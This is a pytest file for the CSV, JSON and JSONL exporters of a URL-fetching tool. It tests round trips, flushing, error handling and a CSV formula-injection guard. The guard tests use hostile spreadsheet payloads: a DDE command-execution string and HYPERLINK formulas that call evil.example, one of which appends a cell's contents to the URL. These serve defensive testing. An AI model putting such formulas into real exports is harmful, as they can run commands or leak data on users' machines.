"""export: CSV / JSON / JSONL writers read back with the standard parsers."""

from __future__ import annotations

import contextlib
import csv
import dataclasses
import gc
import json
import os
import sys
import warnings

import helpers
import pytest

from pooledfetch.errors import ExportError
from pooledfetch.export import FORMATS, csv_cell, format_for, open_exporter, row_dict
from pooledfetch.results import FIELDS, Result


def make_result(index: int = 0, **changes: object) -> Result:
    values: dict[str, object] = {
        "index": index,
        "url": f"https://example.com/{index}",
        "final_url": f"https://example.com/{index}/final",
        "ttfb_ms": 12.5,
        "total_ms": 34.25,
        "bytes": 1024,
        "content_type": "text/html; charset=utf-8",
        "redirects": 1,
    }
    return helpers.make_result(**{**values, **changes})


ROWS = [
    make_result(0),
    make_result(
        1,
        url="ftp://nope",
        final_url="",
        status=None,
        reason="",
        ok=False,
        error="invalid_url",
        error_detail="unsupported scheme 'ftp': only http and https",
        ttfb_ms=None,
        total_ms=0.0,
        bytes=0,
        content_type="",
        redirects=0,
    ),
    make_result(2, status=404, reason="Not Found", ok=False, retries=2, url='https://example.com/ünïcode?q=a,b"c'),
]


def write_rows(path, fmt, rows):
    with open_exporter(str(path), fmt) as exporter:
        for row in rows:
            exporter.write(row)


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def read_json(path):
    with open(path, encoding="utf-8") as handle:
        return json.load(handle)


def read_jsonl(path):
    with open(path, encoding="utf-8") as handle:
        return [json.loads(line) for line in handle]


def read_back(path, fmt):
    """Rows as dicts, whatever the format."""
    if fmt == "csv":
        header, *rows = read_csv(path)
        assert tuple(header) == FIELDS
        return [dict(zip(header, row, strict=True)) for row in rows]
    return read_json(path) if fmt == "json" else read_jsonl(path)


def expected_csv(value):
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def exported(result: Result) -> dict[str, object]:
    """What an export holds of a result from a plain list: every field but the (empty) input row."""
    row = dataclasses.asdict(result)
    assert row.pop("input_row") == ()
    return row


# --- round trips --------------------------------------------------------------------------------


def test_fields_are_the_result_schema_in_order():
    # input_row is the one field exported under the input's own column names instead.
    assert FIELDS == tuple(f.name for f in dataclasses.fields(Result) if f.name != "input_row")
    assert dataclasses.fields(Result)[-1].name == "input_row"
    assert FIELDS[:3] == ("index", "url", "final_url")
    assert list(row_dict(ROWS[0])) == list(FIELDS)


def test_csv_round_trip(tmp_path):
    path = tmp_path / "out.csv"
    write_rows(path, "csv", ROWS)
    header, *rows = read_csv(path)
    assert header == list(FIELDS)
    assert len(rows) == len(ROWS)
    for row, result in zip(rows, ROWS, strict=True):
        assert row == [expected_csv(getattr(result, name)) for name in FIELDS]
    assert rows[1][FIELDS.index("status")] == ""  # None → empty cell
    assert rows[1][FIELDS.index("ttfb_ms")] == ""
    assert rows[0][FIELDS.index("ok")] == "true"
    assert rows[1][FIELDS.index("ok")] == "false"
    assert rows[2][FIELDS.index("url")] == 'https://example.com/ünïcode?q=a,b"c'  # quoting survives


def test_json_round_trip(tmp_path):
    path = tmp_path / "out.json"
    write_rows(path, "json", ROWS)
    data = read_json(path)
    assert isinstance(data, list)
    assert len(data) == len(ROWS)
    for item, result in zip(data, ROWS, strict=True):
        assert list(item) == list(FIELDS)
        assert item == exported(result)
    assert data[1]["status"] is None
    assert data[0]["ok"] is True


def test_jsonl_round_trip(tmp_path):
    path = tmp_path / "out.jsonl"
    write_rows(path, "jsonl", ROWS)
    text = path.read_text(encoding="utf-8")
    assert text.endswith("\n")
    data = read_jsonl(path)
    assert len(data) == len(ROWS)
    for item, result in zip(data, ROWS, strict=True):
        assert list(item) == list(FIELDS)
        assert item == exported(result)


@pytest.mark.parametrize("fmt", FORMATS)
def test_zero_rows_is_a_valid_empty_file(tmp_path, fmt):
    path = tmp_path / f"out.{fmt}"
    write_rows(path, fmt, [])
    if fmt == "csv":
        assert read_csv(path) == [list(FIELDS)]
    elif fmt == "json":
        assert read_json(path) == []
    else:
        assert path.read_text() == ""


@pytest.mark.parametrize("fmt", FORMATS)
def test_file_is_valid_after_an_exception_mid_run(tmp_path, fmt):
    path = tmp_path / f"out.{fmt}"
    with pytest.raises(KeyboardInterrupt):
        with open_exporter(str(path), fmt) as exporter:
            exporter.write(ROWS[0])
            exporter.write(ROWS[1])
            raise KeyboardInterrupt
    rows = read_back(path, fmt)
    assert len(rows) == 2
    assert [int(row["index"]) for row in rows] == [0, 1]


def test_json_rows_are_flushed_before_close(tmp_path, monkeypatch):
    monkeypatch.setattr("pooledfetch.sink.FLUSH_SECONDS", 0)  # every write is due a flush
    path = tmp_path / "out.json"
    exporter = open_exporter(str(path), "json")
    try:
        exporter.write(ROWS[0])
        partial = path.read_text()
        assert partial.startswith("[")
        assert json.loads(partial + "\n]") == [exported(ROWS[0])]
    finally:
        exporter.close()
    assert len(read_json(path)) == 1


@pytest.mark.parametrize("fmt", FORMATS)
def test_rows_written_within_flush_seconds_share_a_flush_that_flush_forces(tmp_path, monkeypatch, fmt):
    monkeypatch.setattr("pooledfetch.sink.FLUSH_SECONDS", 3600)
    path = tmp_path / f"out.{fmt}"
    exporter = open_exporter(str(path), fmt)
    try:
        before = path.read_text()
        exporter.write(ROWS[0])
        exporter.write(ROWS[1])
        assert path.read_text() == before
        exporter.flush()
        after = path.read_text()
        assert after.count("\n") == before.count("\n") + 2
    finally:
        exporter.close()
    assert len(read_back(path, fmt)) == 2


@pytest.mark.parametrize("fmt", FORMATS)
def test_close_is_idempotent(tmp_path, fmt):
    path = tmp_path / f"out.{fmt}"
    exporter = open_exporter(str(path), fmt)
    exporter.write(ROWS[0])
    exporter.close()
    exporter.close()
    assert len(read_back(path, fmt)) == 1


def test_jsonl_to_stdout_is_not_closed(capsys):
    exporter = open_exporter("-", "jsonl")
    with exporter:
        exporter.write(ROWS[0])
    out = capsys.readouterr().out
    assert [json.loads(line) for line in out.splitlines()] == [exported(ROWS[0])]


def test_undecodable_text_does_not_break_the_export(tmp_path):
    # A lone surrogate cannot be encoded as UTF-8; the file is opened with backslashreplace.
    path = tmp_path / "out.csv"
    write_rows(path, "csv", [make_result(0, reason="bad \udcff")])
    (_, row) = read_csv(path)
    assert row[FIELDS.index("reason")] == "bad \\udcff"


# --- CSV formula-injection guard ----------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_guards_formula_starts(prefix):
    assert csv_cell(prefix + "SUM(A1)") == "'" + prefix + "SUM(A1)"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (-5, "-5"),  # numbers are not formulas
        (1.5, "1.5"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_csv_cell_values(value, expected):
    assert csv_cell(value) == expected


HOSTILE = {
    "url": '=HYPERLINK("http://evil.example","click")',
    "final_url": "+cmd|' /C calc'!A0",
    "reason": "-2+3",
    "error_detail": "@SUM(1,2)",
    "content_type": "\ttext/html",
    "started_at": "\r=1",
}


def test_csv_export_guards_hostile_cells(tmp_path):
    path = tmp_path / "out.csv"
    write_rows(path, "csv", [make_result(0, **HOSTILE)])
    (_, row) = read_csv(path)
    for name, value in HOSTILE.items():
        assert row[FIELDS.index(name)] == "'" + value, name


def test_csv_export_guards_the_column_names_taken_from_the_input(tmp_path):
    path = tmp_path / "out.csv"
    names = ("url", '=HYPERLINK("http://evil.example/?"&A2)', "@cmd")
    with open_exporter(str(path), "csv", input_names=names) as exporter:
        exporter.write(make_result(0, input_row=("u", "x", "y")))
    header, _ = read_csv(path)
    assert header[:3] == ["url", "'" + names[1], "'@cmd"]


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_exports_keep_exact_values(tmp_path, fmt):
    path = tmp_path / f"out.{fmt}"
    write_rows(path, fmt, [make_result(0, **HOSTILE)])
    (row,) = read_back(path, fmt)
    for name, value in HOSTILE.items():
        assert row[name] == value


# --- format_for / open_exporter -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "fmt"),
    [
        ("out.csv", "csv"),
        ("OUT.CSV", "csv"),
        ("dir.v2/out.json", "json"),
        ("out.jsonl", "jsonl"),
        ("out.ndjson", "jsonl"),
        ("-", "jsonl"),
    ],
)
def test_format_for_extension(path, fmt):
    assert format_for(path, None) == fmt


def test_format_for_explicit_overrides_extension():
    assert format_for("out.csv", "json") == "json"
    assert format_for("-", "csv") == "csv"
    assert format_for("results.txt", "jsonl") == "jsonl"


@pytest.mark.parametrize("path", ["out.txt", "out", "out.csv.gz", "archive.tar"])
def test_format_for_unknown_extension_raises(path):
    with pytest.raises(ExportError) as info:
        format_for(path, None)
    assert path in str(info.value)
    assert "--format" in str(info.value)


@pytest.mark.parametrize("fmt", FORMATS)
def test_open_exporter_missing_directory_raises_before_anything(tmp_path, fmt):
    path = tmp_path / "no-such-dir" / f"out.{fmt}"
    with pytest.raises(ExportError) as info:
        open_exporter(str(path), fmt)
    assert "no-such-dir" in str(info.value)
    assert "No such file or directory" in str(info.value)
    assert not path.parent.exists()


@pytest.mark.parametrize("fmt", FORMATS)
def test_open_exporter_creates_file_immediately(tmp_path, fmt):
    path = tmp_path / f"out.{fmt}"
    exporter = open_exporter(str(path), fmt)
    try:
        assert path.exists()
    finally:
        exporter.close()


needs_dev_full = pytest.mark.skipif(not os.path.exists("/dev/full"), reason="/dev/full not available")


@needs_dev_full
def test_jsonl_write_to_full_device_raises_export_error():
    exporter = open_exporter("/dev/full", "jsonl")  # nothing written yet, so opening works
    with pytest.raises(ExportError) as info:
        with exporter:
            exporter.write(ROWS[0])
    assert "/dev/full" in str(info.value)
    assert "No space left on device" in str(info.value)


@contextlib.contextmanager
def collected_leaks():
    """Collect garbage inside the block and record what leaked: ResourceWarnings and errors
    raised from finalizers, instead of letting them surface in some later test."""
    leaks: list[str] = []
    previous = sys.unraisablehook
    sys.unraisablehook = lambda u: leaks.append(f"{type(u.exc_value).__name__}: {u.exc_value}")
    try:
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            yield leaks
            gc.collect()
        leaks.extend(f"{w.category.__name__}: {w.message}" for w in caught)
    finally:
        sys.unraisablehook = previous


@needs_dev_full
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_full_device_raises_export_error_when_opening(fmt):
    # The CSV header / JSON "[" is flushed in the constructor, so the failure shows at once.
    with collected_leaks():
        with pytest.raises(ExportError) as info:
            open_exporter("/dev/full", fmt)
        assert "No space left on device" in str(info.value)
        del info


@needs_dev_full
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_failed_open_does_not_leak_the_file(fmt):
    # BUG: when begin() fails in _FileExporter.__init__, open_exporter never closes the stream
    # it opened, so the file object leaks ("ResourceWarning: unclosed file" when collected).
    with collected_leaks() as leaks:
        with pytest.raises(ExportError):
            open_exporter("/dev/full", fmt)
    assert leaks == []


def test_a_json_row_that_fails_to_encode_leaves_the_array_valid(tmp_path: object) -> None:
    # Whatever stops a row half way (an interrupt, a value JSON cannot hold), the next row must
    # not be written as if one came before it: "[,\n{...}" is not JSON.
    path = os.path.join(str(tmp_path), "out.json")
    exporter = open_exporter(path, "json", input_names=("note",))
    with pytest.raises(TypeError):
        exporter.write(helpers.make_result(index=0, input_row=(object(),)))
    exporter.write(helpers.make_result(index=1, input_row=("fine",)))
    exporter.close()
    with open(path, encoding="utf-8") as stream:
        rows = json.load(stream)
    assert [(row["index"], row["note"]) for row in rows] == [(1, "fine")]
